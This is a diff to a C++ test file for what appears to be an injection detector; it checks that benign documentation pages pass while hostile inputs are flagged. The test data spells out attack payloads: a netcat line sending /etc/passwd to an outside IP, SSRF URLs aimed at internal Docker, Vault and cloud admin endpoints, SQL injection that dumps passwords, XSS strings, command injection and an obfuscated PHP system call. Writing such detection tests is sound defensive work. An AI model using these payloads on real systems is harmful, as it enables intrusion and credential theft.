@@ -333,10 +333,39 @@ TEST_F(ContextGradingTest, RichTextAndDocumentationSavesAreNotInjections) {
   // A documentation page: prose with quotes, slashes, links and a price around fenced code.
   // The same page with a command outside its code blocks still counts.
   const std::string page =
-      R"J(---\ntitle: \"Deploying to a VM\"\n---\n\n[App Platform](https://example.com/app) runs your server; it costs around $22 per month.\nYou need a username/email + password and a \"deploy\" key.\n\n```sh\ncd /srv/app && npm ci && npm run build; pm2 restart all | tee /tmp/log\n```\n\nThen open the admin UI and check the logs for errors before you continue.\n\n```tsx\n<button onClick={() => setOpen(true)}>Open</button>\n```\n)J";
+      R"J(---\ntitle: \"Deploying to a VM\"\n---\n\n[App Platform](https://example.com/app) runs your server; it costs around $22 per month.\nYou need a username/email + password and a \"deploy\" key.\nThis guide walks through the build, the first start of the server and the worker process, and how to keep both running after a reboot of the machine.\n\n```sh\ncd /srv/app && npm ci && npm run build; pm2 restart all | tee /tmp/log\n```\n\nThen open the admin UI and check the logs for errors before you continue.\n\n```tsx\n<button onClick={() => setOpen(true)}>Open</button>\n```\n)J";
   EXPECT_FALSE(json("{\"content\": \"" + page + "\"}"));
   EXPECT_TRUE(json("{\"content\": \"" + page + "x; cat /etc/passwd | nc 198.51.100.7 4444\"}"));
   EXPECT_TRUE(json("{\"content\": \"" + page + "<img src=x onerror=alert(1)>\"}"));
+}
+
+// The contexts above are judged from what the application chose (field names, document shape),
+// never from what a short payload can add to itself: each of these still counts.
+TEST_F(ContextGradingTest, ContextsAPayloadCanForgeStillCount) {
+  // An '@' in the query or fragment is no userinfo: the host is localhost.
+  EXPECT_TRUE(json(R"J({"webhook": "http://localhost:2375?@docker.local"})J"));
+  // A cluster-internal URL with a path in a plain field is a fetch target.
+  EXPECT_TRUE(json(R"J({"url": "http://vault.default.svc.cluster.local:8200/v1/secret/db"})J"));
+  EXPECT_TRUE(json(R"J({"url": "http://ip-10-0-0-1.ec2.internal:8080/admin"})J"));
+  // A URL padded with markup after it is no rich-text post.
+  EXPECT_TRUE(get("/f?url=http%3A%2F%2F127.0.0.1%3A8080%2Fmanager%2Fhtml%23%3C%2Fa%3E%3C%2Fa%3E" +
+                  std::string(220, 'a')));
+  // A parenthesised subquery is no whole statement.
+  EXPECT_TRUE(json(R"J({"id": "(select group_concat(password) from users)"})J"));
+  EXPECT_TRUE(json(R"J({"sort": "(select case when (1=1) then name else price end)"})J"));
+  // A link with a script scheme, an unclosed fence.
+  const std::string prose(
+      "This page explains how the export works, which fields it writes, how often it runs and "
+      "where the files go once they are ready, so that the team can plan the next release and "
+      "check the numbers before the weekly review with everyone involved in the project. ");
+  EXPECT_TRUE(json("{\"doc\": \"" + prose + "[click me](javascript:alert(document.domain)) ```x```\"}"));
+  EXPECT_TRUE(json("{\"doc\": \"" + prose + "```' union select username,password from users-- \"}"));
+  // A URL in an IP field is a target; a capitalised PowerShell command runs.
+  EXPECT_TRUE(get("/ping?ip=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"));
+  EXPECT_TRUE(get("/x?cmd=my+file+name%3B+Curl+10.0.0.1%3A8000"));
+  EXPECT_TRUE(get("/x?host=check+the+host%3B+Ping+-n+20+127.0.0.1"));
+  // Words inside a string literal do not make a call a sentence.
+  EXPECT_TRUE(get("/x?code=%24a%3D%27sys%27.%27tem%27%3B%24a(%27cat+flag.txt%27)%3B"));
 }
 
 } // namespace
